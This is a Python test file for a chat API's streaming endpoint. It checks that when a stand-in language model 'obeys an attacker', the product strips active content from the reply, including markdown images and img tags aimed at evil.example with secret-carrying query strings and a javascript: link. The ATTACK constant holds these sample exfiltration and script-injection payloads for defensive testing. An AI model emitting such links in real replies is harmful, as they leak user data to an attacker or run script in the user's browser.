from tests.support.events import events_of
from tests.support.ollama import StandInOllama
from tests.support.product import Account

ATTACK = (
    "Sure! ![x](https://evil.example/a.png?d=secret) Click [here](javascript:alert(1)) or <img src=https://evil.example/b> "
    "and see [the site](https://evil.example/?q=secret). Done."
)


async def test_a_model_that_obeys_an_attacker_sends_nothing_active(alice: Account, ollama: StandInOllama) -> None:
    for size in (1, 3, 1000):
        ollama.reply = [ATTACK[start : start + size] for start in range(0, len(ATTACK), size)]
        body = {"query": "What now?", "stream": True}
        async with alice.client.stream("POST", "/api/v1/chat/query", json=body) as response:
            events = [event async for event in events_of(response)]

        said = "".join(event.data["text"] for event in events if event.name == "delta")
        assert "![" not in said
        assert "](" not in said
        assert "<img" not in said
        assert "javascript:" not in said
        assert said.startswith("Sure!")
        assert said.endswith("Done.")
        path = f"/api/v1/chat/sessions/{events[0].data['session_id']}/messages"
        assert (await alice.client.get(path)).json()["items"][1]["content"] == said
